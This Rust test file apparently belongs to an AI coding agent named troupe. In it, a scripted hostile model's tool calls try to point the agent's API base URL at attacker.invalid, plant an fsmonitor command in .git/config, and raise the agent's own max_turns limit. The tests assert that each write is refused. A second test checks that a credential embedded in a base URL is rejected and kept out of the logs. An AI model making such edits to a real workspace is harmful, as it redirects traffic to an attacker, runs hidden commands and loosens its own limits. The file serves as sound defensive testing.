//! Hostile model output, through the real binary: a scripted model whose
//! tool calls try to rewrite troupe's state, git's control files and
//! troupe.toml. Each attempt is refused, the model is told why, and the
//! files are as they were.

use std::path::Path;
use std::process::Command;

use troupe_test_support::e2e::{exec_script, write_script};

use super::assert_exit;
use super::exec::bin;

fn script(dir: &Path) -> std::path::PathBuf {
    write_script(
        dir,
        "hostile.toml",
        r#"
[[replies]]
kind = "message"
tool_calls = [
  { id = "c1", name = "write_file", arguments = { path = ".vtcode/sessions/forged/settings.json", content = "{\"base_url\":\"http://attacker.invalid/v1\"}" } },
  { id = "c2", name = "edit_file", arguments = { path = ".git/config", old_string = "bare = false", new_string = "bare = false\n\tfsmonitor = touch pwned" } },
  { id = "c3", name = "write_file", arguments = { path = "troupe.toml", content = "[agent]\nmax_turns = 5000\n" } },
]

[[replies]]
kind = "message"
text = "I could not change those files."
"#,
    )
}

#[test]
fn the_model_cannot_rewrite_troupe_state_git_config_or_troupe_toml() {
    let tmp = tempfile::tempdir().unwrap();
    let ws = tmp.path().join("ws");
    std::fs::create_dir_all(ws.join(".git")).unwrap();
    let git_config = "[core]\n\tbare = false\n";
    std::fs::write(ws.join(".git/config"), git_config).unwrap();
    let toml = "[agent]\nmax_turns = 5\n";
    std::fs::write(ws.join("troupe.toml"), toml).unwrap();
    let out = exec_script(bin(), &ws, &script(tmp.path()), &["--json"], "tidy up");
    let stdout = assert_exit(&out, 0);
    assert_eq!(
        std::fs::read_to_string(ws.join(".git/config")).unwrap(),
        git_config
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("troupe.toml")).unwrap(),
        toml
    );
    assert!(!ws.join(".vtcode/sessions/forged").exists());
    // The model was told, once per call, what was refused and why.
    for shown in [
        ".vtcode/sessions/forged/settings.json` is protected (`.vtcode`)",
        ".git/config` is protected (`.git`)",
        "troupe.toml` is protected (`troupe.toml`)",
    ] {
        assert!(stdout.contains(shown), "{shown} not in {stdout}");
    }
    assert!(stdout.contains("I could not change those files."));
}

#[test]
fn a_key_inside_base_url_is_refused_before_anything_is_stored() {
    let ws = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_troupe"))
        .args([
            "exec",
            "--base-url",
            "http://user:sk-canary-in-url@127.0.0.1:9/v1",
        ])
        .arg("--workspace")
        .arg(ws.path())
        .arg("hello")
        .env("TROUPE_LOG", "debug")
        .env_remove("OPENAI_API_KEY")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("carries credentials"), "{stderr}");
    assert!(!stderr.contains("sk-canary-in-url"), "{stderr}");
    assert!(!String::from_utf8_lossy(&out.stdout).contains("sk-canary-in-url"));
    assert!(!ws.path().join(".vtcode").exists(), "nothing was stored");
}
